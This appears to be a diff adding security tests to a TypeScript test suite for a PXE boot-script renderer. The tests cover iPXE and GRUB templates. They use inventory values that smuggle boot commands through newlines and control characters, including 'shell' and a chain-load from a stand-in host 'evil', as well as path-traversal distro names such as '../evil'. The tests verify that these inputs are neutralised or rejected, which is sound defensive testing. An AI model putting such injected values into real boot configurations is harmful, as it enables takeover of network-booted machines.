@@ -5,7 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parseInventory } from '../../cluster/inventory.js';
 import { ImageStore } from '../../pxe/images.js';
-import { renderBootScript, replicaOrder, kernelCmdline } from '../../pxe/bootscript.js';
+import { renderBootScript, renderErrorScript, replicaOrder, kernelCmdline } from '../../pxe/bootscript.js';
 import { defaultTemplatesDir } from '../../lib/paths.js';
 import { makeImages } from '../../tools/images.js';
 import { sample } from '../helpers/inventory.js';
@@ -121,6 +121,56 @@ test("a distro's own boot template wins over the shared one", async () => {
   const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
   const s = await renderBootScript(dir, 'ipxe', { node: inv.byName.get('node01')!, cluster: 'lab', image, servers });
   assert.is(s, `#!ipxe\necho custom node01 ${img.version}\n`);
+});
+
+// Inputs with line breaks and control characters, as a YAML inventory can carry them.
+const hostile = parseInventory(
+  sample.replace('role: xen-dom0', 'role: xen-dom0\n    xenArgs: "console=com1\\nshell\\r\\nchain http://evil/x \\u2028imgfetch y"')
+    .replace('role: linux', 'role: linux\n    kernelArgs: "quiet\\n  echo pwned\\u001b[2J \\u0085boot"'),
+  'cluster.yaml',
+);
+const INJECTED = /^\s*(shell|chain |imgfetch |echo pwned|boot$)/;
+const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]/;
+
+test('no template input can break a line: newlines and control characters in xenArgs and kernelArgs become spaces (iPXE and GRUB)', async () => {
+  const img = makeImages({ xen: true });
+  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
+  // The manifest comes from a peer too: its command line gets the same treatment.
+  const manifest = { ...image.manifest, cmdline: 'console=ttyS0\nshell' };
+  for (const kind of ['ipxe', 'grub'] as const) {
+    for (const name of ['node01', 'node02']) {
+      const plain = await renderBootScript(tpl, kind, { node: inv.byName.get(name)!, cluster: 'lab', image, servers });
+      const s = await renderBootScript(tpl, kind, { node: hostile.byName.get(name)!, cluster: 'lab', image: { ...image, manifest }, servers });
+      const where = `${kind} ${name}:\n${s}`;
+      assert.not.match(s, CONTROL, where);
+      assert.is(s.split('\n').length, plain.split('\n').length, `no extra line in ${where}`);
+      for (const line of s.split('\n')) assert.not.match(line, INJECTED, where);
+    }
+    const xen = await renderBootScript(tpl, kind, { node: hostile.byName.get('node02')!, cluster: 'lab', image, servers });
+    assert.ok(xen.includes(' console=com1 shell chain http://evil/x imgfetch y'), xen);
+    const linux = await renderBootScript(tpl, kind, { node: hostile.byName.get('node01')!, cluster: 'lab', image, servers });
+    assert.ok(linux.includes(' quiet echo pwned [2J boot diskless.name=node01'), linux);
+  }
+  const err = await renderErrorScript(tpl, '52:54:00:77:00:01', "image reference 'a\nshell' is not 'name' or 'name/version'");
+  assert.is(err.split('\n').length, 7);
+  assert.ok(err.includes("'a shell'"), err);
+});
+
+test("the manifest's distro must be a plain name before it picks a template folder", async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'tpl-'));
+  cpSync(tpl, join(dir, 'templates'), { recursive: true });
+  mkdirSync(join(dir, 'evil', 'boot'), { recursive: true });
+  writeFileSync(join(dir, 'evil', 'boot', 'linux.ipxe.mustache'), '#!ipxe\nshell\n');
+  for (const distro of ['../evil', '../../../../../../..' + dir + '/evil', '.hidden', 'a/b']) {
+    const img = makeImages({ distro });
+    const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
+    for (const kind of ['ipxe', 'grub'] as const) {
+      await renderBootScript(join(dir, 'templates'), kind, { node: inv.byName.get('node01')!, cluster: 'lab', image, servers }).then(
+        (s) => assert.unreachable(`rendered with distro ${distro}:\n${s}`),
+        (err: Error) => assert.match(err.message, `its manifest's distro ${JSON.stringify(distro)} is not a plain name`),
+      );
+    }
+  }
 });
 
 test.run();
